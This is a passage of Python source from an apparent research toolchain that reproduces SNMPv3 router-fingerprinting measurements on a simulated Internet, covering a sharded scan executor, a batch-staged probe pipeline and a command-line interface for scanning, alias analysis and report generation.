            metrics.ingest_time += time.perf_counter() - ingest_started
        assert self.finished_at is not None
        scan.finished_at = self.finished_at
        scan.targets_probed = metrics.probes_sent
        scan.probe_bytes_sent = sum(s.probe_bytes for s in metrics.shards)
        scan.reply_bytes_received = sum(s.reply_bytes for s in metrics.shards)
        return scan


class _ExecutorShardRunner:
    """Worker-side runner for a standalone (campaign-less) executor.

    Published via :class:`~repro.scanner.pool.WorkerPool` fork
    inheritance; children capture the executor, plan and params at fork
    time, so tasks stay tiny ``(scan key, shard index)`` tuples.
    """

    def __init__(
        self,
        executor: "ShardedScanExecutor",
        plan: "list[ShardSpec]",
        params: _ScanParams,
    ) -> None:
        self._executor = executor
        self._plan = plan
        self._params = params

    def run_shard(
        self, scan_key: str, shard_index: int, batch_size: int
    ) -> "tuple[Iterator[list[ScanObservation]], ShardMetrics]":
        return self._executor.stream_shard(
            self._plan[shard_index], self._params, batch_size
        )


class ShardedScanExecutor:
    """Partitioned, optionally parallel SNMPv3 discovery scanner.

    The executor owns no topology — it probes whatever is bound on the
    ``fabric`` — but needs the live ``owner_of`` view (address → device
    id) to co-locate each device's addresses in one shard, and the
    ``devices`` registry to snapshot/restore agent session state around
    shard execution.  Both come from the campaign.
    """

    def __init__(
        self,
        *,
        fabric: NetworkFabric,
        devices: "Mapping[int, Device]",
        owner_of: "Callable[[IPAddress], int | None] | None" = None,
        config: "ExecutorConfig | None" = None,
        zmap_config: "ZmapConfig | None" = None,
        pool: "WorkerPool | None" = None,
        owner_of_batch: "Callable[[list[IPAddress]], list[int | None]] | None" = None,
        snapshot_filter: "Callable[[tuple[int, ...]], list[int]] | None" = None,
    ) -> None:
        self._fabric = fabric
        self._devices = devices
        self._owner_of = owner_of or (lambda address: None)
        # Optional batch ownership view: resolves a whole planning window
        # in one call (plan arithmetic / C-speed dict sweep) instead of
        # one Python call per target.  Must agree with ``owner_of``
        # pointwise — the shard plan is built from whichever is present.
        self._owner_of_batch = owner_of_batch
        # Optional snapshot narrowing: returns the subset of a shard's
        # owner ids whose agent state probing can actually touch.  A
        # device the fabric can never deliver to (SNMP closed on every
        # interface) keeps virgin agent state through the shard, so its
        # snapshot/restore pair is a no-op — but materializing it to
        # take that no-op snapshot is the dominant cost of a streamed
        # shard.  Byte-identity holds as long as the filter only drops
        # devices that cannot answer.
        self._snapshot_filter = snapshot_filter
        self.config = config or ExecutorConfig()
        self.zmap_config = zmap_config or ZmapConfig()
        # Campaign-owned persistent pool; when absent, a parallel scan
        # forks an ephemeral pool of its own for the scan's duration.
        self._pool = pool

    @property
    def effective_workers(self) -> int:
        """Worker processes actually used (serial fallback collapses to 1)."""
        if self.config.workers <= 1:
            return 1
        if "fork" not in multiprocessing.get_all_start_methods():
            return 1
        return self.config.workers

    # -- public ------------------------------------------------------------

    def execute(
        self,
        targets: "list[IPAddress]",
        *,
        label: str,
        ip_version: int,
        start_time: float,
        rate_pps: "float | None" = None,
    ) -> ScanExecution:
        """Plan a scan and return its (lazily evaluated) execution handle."""
        for target in targets:
            if target.version != ip_version:
                raise ValueError(
                    f"target {target} does not match scan family IPv{ip_version}"
                )
        rate = rate_pps if rate_pps is not None else self.zmap_config.rate_pps
        source = (
            self.zmap_config.source_v4 if ip_version == 4 else self.zmap_config.source_v6
        )
        params = _ScanParams(
            label=label,
            ip_version=ip_version,
            start_time=start_time,
            interval=1.0 / rate,
            source=source,
            source_port=self.zmap_config.source_port,
        )
        plan_started = time.perf_counter()
        plan = plan_shards(
            targets,
            label=label,
            num_shards=self.config.num_shards,
            seed=self.config.seed,
            shuffle_seed=self.zmap_config.shuffle_seed,
            owner_of=self._owner_of,
            owners=(
                None
                if self._owner_of_batch is None
                else self._owner_of_batch(targets)
            ),
        )
        execution = ScanExecution(self, plan, params, total_targets=len(targets))
        execution.metrics.plan_time = time.perf_counter() - plan_started
        return execution

    def execute_stream(
        self,
        targets: "Iterable[IPAddress]",
        *,
        label: str,
        ip_version: int,
        start_time: float,
        rate_pps: "float | None" = None,
    ) -> StreamingScanExecution:
        """Plan-as-you-go scan over a target *iterator* (constant memory).

        Unlike :meth:`execute`, targets are never materialized as one
        list: they are pulled in ``config.target_window``-sized windows,
        each planned and probed before the next is read.  Probe
        ``msg_id``/send-slot assignment follows the target stream's
        global order, so the output for a given target sequence is
        independent of the window size's effect on *memory* (each window
        is planned as its own permutation, like a sequence of scans).
        """
        rate = rate_pps if rate_pps is not None else self.zmap_config.rate_pps
        source = (
            self.zmap_config.source_v4 if ip_version == 4 else self.zmap_config.source_v6
        )
        params = _ScanParams(
            label=label,
            ip_version=ip_version,
            start_time=start_time,
            interval=1.0 / rate,
            source=source,
            source_port=self.zmap_config.source_port,
        )
        window = self.config.target_window or DEFAULT_TARGET_WINDOW
        return StreamingScanExecution(self, targets, params, window)

    def scan(
        self,
        targets: "list[IPAddress]",
        label: str,
        ip_version: int,
        start_time: float,
        rate_pps: "float | None" = None,
    ) -> ScanResult:
        """Drop-in materialized equivalent of :meth:`ZmapScanner.scan`."""
        return self.execute(
            targets,
            label=label,
            ip_version=ip_version,
            start_time=start_time,
            rate_pps=rate_pps,
        ).result()

    # -- execution ---------------------------------------------------------

    def _stream(
        self,
        plan: list[ShardSpec],
        params: _ScanParams,
        metrics: ExecutorMetrics,
    ) -> Iterator[list[ScanObservation]]:
        started = time.perf_counter()
        try:
            if self.effective_workers > 1:
                yield from self._stream_pooled(plan, params, metrics)
            else:
                yield from self._stream_serial(plan, params, metrics)
        finally:
            # Finalized even when the consumer abandons the stream early
            # (pipeline short-circuit, partial export): wall_time must
            # reflect the time actually spent, never stay zero.
            metrics.wall_time = time.perf_counter() - started

    def _stream_serial(
        self,
        plan: list[ShardSpec],
        params: _ScanParams,
        metrics: ExecutorMetrics,
    ) -> Iterator[list[ScanObservation]]:
        batch_size = self.config.batch_size
        for spec in plan:
            batches, shard = self.stream_shard(spec, params, batch_size)
            for batch in batches:
                metrics.peak_batch = max(metrics.peak_batch, len(batch))
                yield batch
            metrics.add_shard(shard)

    def _stream_pooled(
        self,
        plan: list[ShardSpec],
        params: _ScanParams,
        metrics: ExecutorMetrics,
    ) -> Iterator[list[ScanObservation]]:
        pool = self._pool
        # No campaign-owned pool (or it already shut down, e.g. the
        # owning generator was dropped): fork one for this scan.  The
        # runner is captured by the children at fork time, so the workers
        # see exactly this plan and params.
        owned = pool is None or pool.closed
        if owned:
            pool = WorkerPool(
                workers=self.effective_workers,
                runner=_ExecutorShardRunner(self, plan, params),
            )
        try:
            yield from self._merge_pool_messages(
                pool, plan, params.label, metrics
            )
        finally:
            if owned:
                pool.close()

    def _merge_pool_messages(
        self,
        pool: WorkerPool,
        plan: list[ShardSpec],
        scan_key: str,
        metrics: ExecutorMetrics,
    ) -> Iterator[list[ScanObservation]]:
        """Merge one pool run's shard messages in deterministic order."""
        messages = pool.run_scan(
            scan_key,
            num_shards=len(plan),
            batch_size=self.config.batch_size,
        )
        for __, kind, payload in messages:
            if kind == MSG_METRICS:
                assert isinstance(payload, ShardMetrics)
                metrics.add_shard(payload)
            else:
                assert isinstance(payload, bytes)
                batch = decode_observations(payload)
                metrics.peak_batch = max(metrics.peak_batch, len(batch))
                yield batch

    def _stream_window_batches(
        self,
        plan: list[ShardSpec],
        params: _ScanParams,
        metrics: ExecutorMetrics,
        window_key: str,
    ) -> Iterator[list[ScanObservation]]:
        """One streaming window's shards, serial or on an ephemeral pool.

        The streaming path never reuses a campaign-owned persistent pool:
        its fork-time replicas captured eagerly-built state, while each
        window's plan only exists for the window's lifetime.
        """
        if self.effective_workers <= 1:
            yield from self._stream_serial(plan, params, metrics)
            return
        pool = WorkerPool(
            workers=self.effective_workers,
            runner=_ExecutorShardRunner(self, plan, params),
        )
        try:
            yield from self._merge_pool_messages(pool, plan, window_key, metrics)
        finally:
            pool.close()

    def stream_shard(
        self, spec: ShardSpec, params: _ScanParams, batch_size: int
    ) -> "tuple[Iterator[list[ScanObservation]], ShardMetrics]":
        """One shard as a lazy batch stream plus its metrics record.

        The metrics object is filled in while the stream is consumed and
        complete once it is exhausted.  Batch boundaries are per-shard
        chunks of ``batch_size``, identical on the serial and pooled
        paths — the worker pool ships these exact batches over the pipe.
        """
        shard = ShardMetrics(shard_index=spec.index, targets=len(spec.items))

        def batches() -> Iterator[list[ScanObservation]]:
            batch: list[ScanObservation] = []
            for observation in self._probe_shard(spec, params, shard):
                batch.append(observation)
                if len(batch) >= batch_size:
                    yield batch
                    batch = []
            if batch:
                yield batch

        return batches(), shard

    def _execute_shard(
        self, spec: ShardSpec, params: _ScanParams
    ) -> tuple[list[ScanObservation], ShardMetrics]:
        """Materialized equivalent of :meth:`stream_shard` (tests, tools)."""
        shard = ShardMetrics(shard_index=spec.index, targets=len(spec.items))
        return list(self._probe_shard(spec, params, shard)), shard

    def _probe_shard(
        self, spec: ShardSpec, params: _ScanParams, shard: ShardMetrics
    ) -> Iterator[ScanObservation]:
        """Run one shard against a shard-local fabric view.

        Agent session state touched by this shard is restored afterwards,
        so results never depend on which process — or in what order —
        other shards ran.

        With a non-default :class:`RetryPolicy`, each target may be
        probed up to ``1 + max_retries`` times: replies arriving past the
        per-probe timeout are discarded (and counted), an unparseable
        reply triggers another attempt, and a device that stays dead for
        ``breaker_threshold`` consecutive targets stops earning retries.
        The retry schedule is a pure function of the shard's own probe
        outcomes, preserving byte-identity across worker counts.

        Observations are yielded as they are made; ``shard`` is finalized
        (fabric stats, wall time, stage timings) on exhaustion.

        ``config.pipeline`` selects between the batch-staged pipeline
        (:mod:`repro.scanner.pipeline`, the default) and the historical
        per-probe loop; the two are byte-identical, so the switch exists
        purely for A/B measurement.
        """
        shard_started = time.perf_counter()
        config = self.config
        profile = config.profile
        timer = HandlerTimer() if profile else None
        view = self._fabric.shard_view(spec.seed, timer)
        device_ids: "Iterable[int]" = spec.device_ids
        if self._snapshot_filter is not None:
            device_ids = self._snapshot_filter(spec.device_ids)
        snapshots = [
            (device, _snapshot_device(device))
            for device in (self._devices[d] for d in device_ids)
        ]
        yielded = 0
        timings = StageTimings()
        if config.pipeline:
            produce = probe_targets_pipelined(
                view, spec, params, config.retry, config.window,
                self._owner_of, shard, timings, profile,
            )
        else:
            produce = self._probe_targets_legacy(
                view, spec, params, shard, timings, profile
            )
        try:
            for observation in produce:
                yielded += 1
                yield observation
        finally:
            for device, snapshot in snapshots:
                _restore_device(device, snapshot)
        stats = view.stats
        shard.probes_sent = stats.injected
        shard.replies = stats.replies
        shard.observations = yielded
        shard.dropped_loss = stats.dropped_loss
        shard.dropped_reply_loss = stats.dropped_reply_loss
        shard.dropped_no_endpoint = stats.dropped_no_endpoint
        shard.dropped_rate_limited = stats.dropped_rate_limited
        shard.duplicated = stats.duplicated
        shard.reordered = stats.reordered
        shard.truncated = stats.truncated
        shard.corrupted = stats.corrupted
        shard.probe_bytes = stats.probe_bytes
        shard.reply_bytes = stats.reply_bytes
        if timer is not None:
            shard.encode_time = timings.encode
            shard.agent_time = timer.seconds
            shard.fabric_time = max(0.0, timings.inject - timer.seconds)
            shard.decode_time = timings.decode
        shard.wall_time = time.perf_counter() - shard_started

    def _probe_targets_legacy(
        self,
        view: FabricView,
        spec: ShardSpec,
        params: _ScanParams,
        shard: ShardMetrics,
        timings: StageTimings,
        profile: bool,
    ) -> Iterator[ScanObservation]:
        """The historical per-probe loop (``pipeline=False`` A/B path)."""
        source = params.source
        sport = params.source_port
        start_time = params.start_time
        interval = params.interval
        observe = ZmapScanner._observe
        inject = view.inject
        retry = self.config.retry
        timeout = retry.timeout
        owner_of = self._owner_of
        retrying = retry.max_retries > 0
        encode_elapsed = 0.0
        inject_elapsed = 0.0
        decode_elapsed = 0.0
        # Consecutive unanswered probes per device (circuit breaker).
        dead_streak: dict[object, int] = {}
        try:
            for global_index, target in spec.items:
                send_time = start_time + global_index * interval
                if profile:
                    stage_started = time.perf_counter()
                    payload = encode_discovery_probe(global_index + 1)
                    encode_elapsed += time.perf_counter() - stage_started
                else:
                    payload = encode_discovery_probe(global_index + 1)
                if retrying and retry.breaker_threshold:
                    breaker_key = owner_of(target)
                    if breaker_key is None:
                        breaker_key = target
                    allow_retries = (
                        dead_streak.get(breaker_key, 0) < retry.breaker_threshold
                    )
                else:
                    breaker_key = None
                    allow_retries = retrying
                observation = None
                attempt = 0
                while True:
                    datagram = Datagram(
                        src=source,
                        dst=target,
                        sport=sport,
                        dport=SNMP_PORT,
                        payload=payload,
                        sent_at=send_time,
                    )
                    if profile:
                        stage_started = time.perf_counter()
                        replies = inject(datagram, now=send_time)
                        inject_elapsed += time.perf_counter() - stage_started
                    else:
                        replies = inject(datagram, now=send_time)
                    if timeout is not None and replies:
                        on_time = [
                            entry
                            for entry in replies
                            if entry[1] - send_time <= timeout
                        ]
                        shard.timed_out += len(replies) - len(on_time)
                        replies = on_time
                    if replies:
                        if profile:
                            stage_started = time.perf_counter()
                            observation = observe(target, replies)
                            decode_elapsed += time.perf_counter() - stage_started
                        else:
                            observation = observe(target, replies)
                        if observation.engine_id is not None:
                            break
                    if not allow_retries or attempt >= retry.max_retries:
                        break
                    attempt += 1
                    shard.retries += 1
                    send_time = retry.retry_send_time(send_time, attempt)
                if observation is not None:
                    if observation.engine_id is None:
                        shard.unparsed += 1
                    yield observation
                if breaker_key is not None:
                    if observation is None:
                        streak = dead_streak.get(breaker_key, 0) + 1
                        dead_streak[breaker_key] = streak
                        if streak == retry.breaker_threshold:
                            shard.breaker_tripped += 1
                    else:
                        dead_streak[breaker_key] = 0
        finally:
            timings.encode += encode_elapsed
            timings.inject += inject_elapsed
            timings.decode += decode_elapsed


__all__ = [
    "DEFAULT_BATCH_SIZE",
    "DEFAULT_NUM_SHARDS",
    "DEFAULT_TARGET_WINDOW",
    "DEFAULT_WINDOW",
    "ExecutionOptions",
    "ExecutorConfig",
    "RetryPolicy",
    "ScanExecution",
    "ShardSpec",
    "ShardedScanExecutor",
    "StreamingScanExecution",
    "plan_shards",
    "shard_seed",
]
