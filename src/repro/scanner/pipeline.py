"""Batch-staged probe pipeline for the sharded scan executor.

The legacy hot loop in :mod:`repro.scanner.executor` pays Python dispatch
per *packet*: encode one probe, build one :class:`~repro.net.packet.
Datagram`, walk the fault fabric, call the agent, fully decode the reply
— then start over.  This module restructures one shard's probe work into
stages over *windows* of targets:

1. **encode** — a :class:`~repro.snmp.messages.DiscoveryProbeTemplate`
   renders the whole window's probes in one vectorized BER pass;
2. **inject** — :meth:`FabricView.inject_probe_batch` steps the fault
   fabric and the agents across the window in one call, with per-probe
   msg-id hints so uncorrupted probes reach
   ``SnmpAgent.handle_discovery`` without re-parsing;
3. **decode** — replies are matched with the structural
   :func:`~repro.snmp.messages.match_discovery_report` fast parser,
   falling back to the authoritative full decoder whenever the shape is
   off.

Stage boundaries never change outcomes: every RNG draw, usmStats bump,
reboot, and reply byte happens in exactly the per-target order of the
legacy loop, so results are byte-identical at every worker count, under
every fault profile and adversarial personality (property-tested in
``tests/scanner/test_pipeline_identity.py``).

A non-zero :class:`~repro.scanner.executor.RetryPolicy` makes a target's
follow-up probes depend on its own reply outcomes, so windows collapse to
per-target sequencing; the encode-template, hinted-inject and
fast-decode savings still apply.

The streaming executor path (``execute_stream`` over a target iterator)
reuses these stages unchanged: each planning window's shards run through
:func:`probe_targets_pipelined` exactly as a whole-scan plan would, and
on lazy topologies the batch inject's endpoint misses fall through to
the fabric's resolver, which derives devices on demand — stage
boundaries still never change outcomes.
"""

from __future__ import annotations

import time
from typing import TYPE_CHECKING, Iterator

from repro.asn1 import ber
from repro.scanner.records import ScanObservation
from repro.snmp.constants import SNMP_PORT
from repro.snmp.engine_id import EngineId
from repro.snmp.messages import (
    DiscoveryProbeTemplate,
    match_discovery_report,
    parse_discovery_response,
)

if TYPE_CHECKING:
    from repro.net.addresses import IPAddress
    from repro.net.transport import FabricView
    from repro.scanner.executor import RetryPolicy, ShardSpec, _ScanParams
    from repro.scanner.metrics import ShardMetrics

    ReplyEntry = tuple[bytes, float, int]


class StageTimings:
    """Wall-clock accumulators for the executor's profile mode."""

    __slots__ = ("encode", "inject", "decode")

    def __init__(self) -> None:
        self.encode = 0.0
        self.inject = 0.0
        self.decode = 0.0


def observe_replies(
    target: "IPAddress", replies: "list[ReplyEntry]"
) -> ScanObservation:
    """Parse the first reply; count the rest (amplification tracking).

    The tuple-based twin of ``ZmapScanner._observe`` — the batch fabric
    hands back ``(payload, arrival, wire_size)`` entries instead of
    materialized datagrams — fronted by the structural Report matcher.
    Output is field-identical for every reply either path can see.
    """
    payload, arrival, wire_size = replies[0]
    parsed = match_discovery_report(payload)
    if parsed is None:
        try:
            parsed = parse_discovery_response(payload)
        except ber.BerDecodeError:
            return ScanObservation(
                address=target,
                recv_time=arrival,
                engine_id=None,
                response_count=len(replies),
                wire_bytes=wire_size,
            )
    return ScanObservation(
        address=target,
        recv_time=arrival,
        engine_id=EngineId(parsed.engine_id),
        engine_boots=parsed.engine_boots,
        engine_time=parsed.engine_time,
        response_count=len(replies),
        wire_bytes=wire_size,
    )


def probe_targets_pipelined(
    view: "FabricView",
    spec: "ShardSpec",
    params: "_ScanParams",
    retry: "RetryPolicy",
    window: int,
    owner_of: "object",
    shard: "ShardMetrics",
    timings: StageTimings,
    profile: bool,
) -> Iterator[ScanObservation]:
    """Yield one shard's observations through the staged pipeline."""
    if retry.max_retries > 0:
        return _probe_targets_retry(
            view, spec, params, retry, owner_of, shard, timings, profile
        )
    return _probe_targets_staged(
        view, spec, params, retry, window, shard, timings, profile
    )


def _probe_targets_staged(
    view: "FabricView",
    spec: "ShardSpec",
    params: "_ScanParams",
    retry: "RetryPolicy",
    window: int,
    shard: "ShardMetrics",
    timings: StageTimings,
    profile: bool,
) -> Iterator[ScanObservation]:
    """Window-staged path: valid whenever no retries are configured.

    Without retries a probe's inputs (payload, send slot) are independent
    of every other probe's outcome and all RNG draws happen inside
    delivery in target order, so encode-all / inject-all / decode-all is
    draw-for-draw identical to the interleaved legacy loop.  The timeout
    filter draws nothing, so it batches freely too.
    """
    template = DiscoveryProbeTemplate()
    items = spec.items
    source = params.source
    sport = params.source_port
    start_time = params.start_time
    interval = params.interval
    timeout = retry.timeout
    inject_batch = view.inject_probe_batch
    perf = time.perf_counter
    for base in range(0, len(items), window):
        chunk = items[base : base + window]
        msg_ids = [global_index + 1 for global_index, __ in chunk]
        targets = [target for __, target in chunk]
        send_times = [
            start_time + global_index * interval for global_index, __ in chunk
        ]
        if profile:
            stage_started = perf()
            payloads = template.render_batch(msg_ids)
            timings.encode += perf() - stage_started
            stage_started = perf()
            reply_lists = inject_batch(
                source, sport, SNMP_PORT, targets, payloads, send_times, msg_ids
            )
            timings.inject += perf() - stage_started
            stage_started = perf()
        else:
            payloads = template.render_batch(msg_ids)
            reply_lists = inject_batch(
                source, sport, SNMP_PORT, targets, payloads, send_times, msg_ids
            )
        observations: "list[ScanObservation]" = []
        append = observations.append
        for index, replies in enumerate(reply_lists):
            if timeout is not None and replies:
                send_time = send_times[index]
                on_time = [
                    entry for entry in replies if entry[1] - send_time <= timeout
                ]
                shard.timed_out += len(replies) - len(on_time)
                replies = on_time
            if not replies:
                continue
            observation = observe_replies(targets[index], replies)
            if observation.engine_id is None:
                shard.unparsed += 1
            append(observation)
        if profile:
            timings.decode += perf() - stage_started
        yield from observations


def _probe_targets_retry(
    view: "FabricView",
    spec: "ShardSpec",
    params: "_ScanParams",
    retry: "RetryPolicy",
    owner_of: "object",
    shard: "ShardMetrics",
    timings: StageTimings,
    profile: bool,
) -> Iterator[ScanObservation]:
    """Per-target path for retry policies.

    A retry's send slot and very existence depend on the target's own
    earlier replies, so targets must complete one at a time to keep the
    RNG stream aligned with the legacy loop.  Control flow below mirrors
    ``ShardedScanExecutor._probe_targets_legacy`` statement for
    statement; only the probe encode (template), delivery entry point
    (hinted single-probe batch) and reply parse (fast matcher) differ —
    all three byte-identical substitutions.
    """
    template = DiscoveryProbeTemplate()
    source = params.source
    sport = params.source_port
    start_time = params.start_time
    interval = params.interval
    timeout = retry.timeout
    inject_batch = view.inject_probe_batch
    perf = time.perf_counter
    dead_streak: dict[object, int] = {}
    for global_index, target in spec.items:
        send_time = start_time + global_index * interval
        msg_id = global_index + 1
        if profile:
            stage_started = perf()
            payload = template.render(msg_id)
            timings.encode += perf() - stage_started
        else:
            payload = template.render(msg_id)
        if retry.breaker_threshold:
            breaker_key = owner_of(target)  # type: ignore[operator]
            if breaker_key is None:
                breaker_key = target
            allow_retries = (
                dead_streak.get(breaker_key, 0) < retry.breaker_threshold
            )
        else:
            breaker_key = None
            allow_retries = True
        observation = None
        attempt = 0
        while True:
            if profile:
                stage_started = perf()
                replies = inject_batch(
                    source, sport, SNMP_PORT, [target], [payload],
                    [send_time], [msg_id],
                )[0]
                timings.inject += perf() - stage_started
            else:
                replies = inject_batch(
                    source, sport, SNMP_PORT, [target], [payload],
                    [send_time], [msg_id],
                )[0]
            if timeout is not None and replies:
                on_time = [
                    entry for entry in replies if entry[1] - send_time <= timeout
                ]
                shard.timed_out += len(replies) - len(on_time)
                replies = on_time
            if replies:
                if profile:
                    stage_started = perf()
                    observation = observe_replies(target, replies)
                    timings.decode += perf() - stage_started
                else:
                    observation = observe_replies(target, replies)
                if observation.engine_id is not None:
                    break
            if not allow_retries or attempt >= retry.max_retries:
                break
            attempt += 1
            shard.retries += 1
            send_time = retry.retry_send_time(send_time, attempt)
        if observation is not None:
            if observation.engine_id is None:
                shard.unparsed += 1
            yield observation
        if breaker_key is not None:
            if observation is None:
                streak = dead_streak.get(breaker_key, 0) + 1
                dead_streak[breaker_key] = streak
                if streak == retry.breaker_threshold:
                    shard.breaker_tripped += 1
            else:
                dead_streak[breaker_key] = 0


__all__ = [
    "StageTimings",
    "observe_replies",
    "probe_targets_pipelined",
]
