"""Command-line interface.

Four subcommands mirror the measurement workflow::

    snmpv3-repro scan    --scale 300 --out runs/demo     # campaign -> JSONL
    snmpv3-repro scan    --workers 4 --stats ...         # sharded engine
    snmpv3-repro analyze runs/demo                       # filter+alias+census
    snmpv3-repro report  --scale 100 [--quick]           # full paper report
    snmpv3-repro publish --scale 100 --out published     # figure CSVs
    snmpv3-repro lab                                     # §6.2.1 bench run

``scan`` exports the four raw scans; ``analyze`` consumes those files —
so the two stages can run on different machines, the way the paper's
collection and analysis separate.  ``python -m repro`` is equivalent.
"""

from __future__ import annotations

import argparse
import sys
from collections import Counter
from pathlib import Path

from repro.clock import Clock, Stopwatch

#: Elapsed-time reporting goes through an injectable clock (DET001 bans
#: ambient ``time.time()``); tests may swap in a ``ManualClock``.
DEFAULT_CLOCK: "Clock | None" = None


def _cmd_scan(args: argparse.Namespace) -> int:
    from repro.io import ScanJsonlWriter
    from repro.scanner.campaign import ScanCampaign
    from repro.scanner.executor import RetryPolicy
    from repro.topology.config import TopologyConfig
    from repro.topology.generator import build_topology

    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    config = TopologyConfig.paper_scale(divisor=args.scale, seed=args.seed)
    print(f"building simulated Internet (1/{args.scale:g} scale, seed {args.seed})...")
    stopwatch = Stopwatch(DEFAULT_CLOCK)
    topology = build_topology(config)
    retry = None
    if args.retries or args.timeout is not None:
        retry = RetryPolicy(
            max_retries=args.retries,
            timeout=args.timeout if args.timeout is not None else 1.0,
        )
    campaign = ScanCampaign(
        topology=topology,
        config=config,
        workers=args.workers,
        num_shards=args.shards,
        batch_size=args.batch_size,
        fault_profile=args.fault_profile,
        retry=retry,
        profile=args.profile,
    )
    summaries = []
    # Streaming export: observation batches go straight from the executor
    # to disk, so even a full-scale campaign is never materialized.
    for stream in campaign.run_streaming():
        path = out / f"scan-{stream.label}.jsonl"
        with ScanJsonlWriter(
            path,
            label=stream.label,
            ip_version=stream.ip_version,
            started_at=stream.started_at,
        ) as writer:
            for batch in stream.batches():
                writer.write_batch(batch)
            writer.finished_at = stream.execution.finished_at
            writer.targets_probed = stream.execution.metrics.probes_sent
        print(f"  {path}: {writer.records} responsive IPs "
              f"({writer.targets_probed} probed)")
        summaries.append(stream.execution.metrics.summary())
    if args.stats or args.profile:
        for line in summaries:
            print(f"  {line}")
    print(f"done in {stopwatch.elapsed():.1f}s")
    return 0


def _cmd_analyze(args: argparse.Namespace) -> int:
    from repro.alias.snmpv3 import resolve_dual_stack
    from repro.fingerprint.vendor import vendor_of_alias_set
    from repro.io import (
        export_alias_sets_csv,
        export_alias_sets_jsonl,
        export_vendor_census_csv,
        iter_scan_jsonl,
    )
    from repro.pipeline.filters import FilterPipeline

    run_dir = Path(args.run_dir)
    paths = {}
    for label in ("v4-1", "v4-2", "v6-1", "v6-2"):
        path = run_dir / f"scan-{label}.jsonl"
        if not path.exists():
            print(f"error: missing {path}", file=sys.stderr)
            return 2
        paths[label] = path

    # Stream each scan pair off disk through the pipeline; only the
    # pipeline's own bounded state is ever resident.
    pipeline = FilterPipeline(reboot_threshold=args.threshold)
    result_v4 = pipeline.run_stream(
        iter_scan_jsonl(paths["v4-1"]), iter_scan_jsonl(paths["v4-2"])
    )
    result_v6 = pipeline.run_stream(
        iter_scan_jsonl(paths["v6-1"]), iter_scan_jsonl(paths["v6-2"])
    )
    print(f"valid records: {len(result_v4.valid)} IPv4, {len(result_v6.valid)} IPv6")
    for name, count in result_v4.stats.removed.items():
        if count:
            print(f"  filter {name}: removed {count} (IPv4)")

    dual = resolve_dual_stack(result_v4.valid, result_v6.valid)
    print(f"alias sets: {dual.count} devices, "
          f"{dual.non_singleton_count} with multiple addresses")
    export_alias_sets_jsonl(dual, run_dir / "alias-sets.jsonl")
    export_alias_sets_csv(dual, run_dir / "alias-sets.csv")

    records = {r.address: r for r in result_v4.valid + result_v6.valid}
    census = Counter()
    for group in dual.sets:
        engine_ids = [records[a].engine_id for a in group if a in records]
        census[vendor_of_alias_set(engine_ids).vendor] += 1
    export_vendor_census_csv(census.most_common(), run_dir / "vendor-census.csv")
    print("top vendors: " + ", ".join(f"{v} {c}" for v, c in census.most_common(5)))
    print(f"artifacts written to {run_dir}/")
    return 0


def _cmd_report(args: argparse.Namespace) -> int:
    from repro.experiments import ExperimentContext
    from repro.experiments.report import render_full_report
    from repro.topology.config import TopologyConfig

    config = TopologyConfig.paper_scale(divisor=args.scale, seed=args.seed)
    print(f"running full reproduction (1/{args.scale:g} scale)...", file=sys.stderr)
    ctx = ExperimentContext.create(config)
    text = render_full_report(ctx, include_comparators=not args.quick)
    if args.out:
        Path(args.out).write_text(text, encoding="utf-8")
        print(f"report written to {args.out}", file=sys.stderr)
    else:
        print(text)
    return 0


def _cmd_publish(args: argparse.Namespace) -> int:
    from repro.experiments import ExperimentContext
    from repro.experiments.publish import publish_all
    from repro.topology.config import TopologyConfig

    config = TopologyConfig.paper_scale(divisor=args.scale, seed=args.seed)
    print(f"running measurement (1/{args.scale:g} scale)...", file=sys.stderr)
    ctx = ExperimentContext.create(config)
    files = publish_all(ctx, args.out)
    print(f"wrote {len(files)} CSV artifacts to {args.out}/")
    return 0


def _cmd_lab(args: argparse.Namespace) -> int:
    from repro.experiments.lab import default_lab, run_lab_experiment

    failures = 0
    for router in default_lab():
        report = run_lab_experiment(router)
        verdicts = {
            "silent before config": not report.answers_before_config,
            "v2c after community": report.v2c_works_after_config,
            "v3 implicitly enabled": report.v3_discovery_after_config,
            "engine ID is MAC": report.engine_id_is_mac,
            "same ID on all interfaces": report.same_engine_id_on_all_interfaces,
            "first-interface MAC": report.engine_mac_is_first_interface,
        }
        print(f"{report.router}:")
        for name, passed in verdicts.items():
            print(f"  [{'ok' if passed else 'FAIL'}] {name}")
            failures += 0 if passed else 1
    return 1 if failures else 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="snmpv3-repro",
        description="SNMPv3 router-fingerprinting reproduction toolchain",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    scan = sub.add_parser("scan", help="run the four-scan campaign, export JSONL")
    scan.add_argument("--scale", type=float, default=300.0)
    scan.add_argument("--seed", type=int, default=2021)
    scan.add_argument("--out", default="runs/latest")
    scan.add_argument("--workers", type=int, default=None,
                      help="worker processes for the sharded engine (default 1)")
    scan.add_argument("--shards", type=int, default=None,
                      help="shard count (default 16; results are "
                           "worker-count independent at a fixed shard count)")
    scan.add_argument("--batch-size", type=int, default=None,
                      help="observations per streamed batch (default 2048)")
    from repro.net.faults import FAULT_PROFILES
    scan.add_argument("--fault-profile", default=None,
                      choices=sorted(FAULT_PROFILES),
                      help="inject wire faults from a stock profile "
                           "(deterministic per seed)")
    scan.add_argument("--retries", type=int, default=0,
                      help="extra probes per unanswered target (default 0)")
    scan.add_argument("--timeout", type=float, default=None,
                      help="per-probe reply deadline in virtual seconds "
                           "(default 1.0 when --retries is set)")
    scan.add_argument("--stats", action="store_true",
                      help="print per-scan execution metrics")
    scan.add_argument("--profile", action="store_true",
                      help="collect per-stage timings (encode/fabric/agent/"
                           "decode) into the metrics; implies --stats")
    scan.set_defaults(func=_cmd_scan)

    analyze = sub.add_parser("analyze", help="filter + alias + census from exports")
    analyze.add_argument("run_dir")
    analyze.add_argument("--threshold", type=float, default=10.0,
                         help="last-reboot consistency threshold in seconds")
    analyze.set_defaults(func=_cmd_analyze)

    report = sub.add_parser("report", help="full table/figure reproduction")
    report.add_argument("--scale", type=float, default=100.0)
    report.add_argument("--seed", type=int, default=2021)
    report.add_argument("--quick", action="store_true")
    report.add_argument("--out", default=None)
    report.set_defaults(func=_cmd_report)

    publish = sub.add_parser(
        "publish", help="export every figure/table series as CSV (snmpv3.io-style)"
    )
    publish.add_argument("--scale", type=float, default=100.0)
    publish.add_argument("--seed", type=int, default=2021)
    publish.add_argument("--out", default="published")
    publish.set_defaults(func=_cmd_publish)

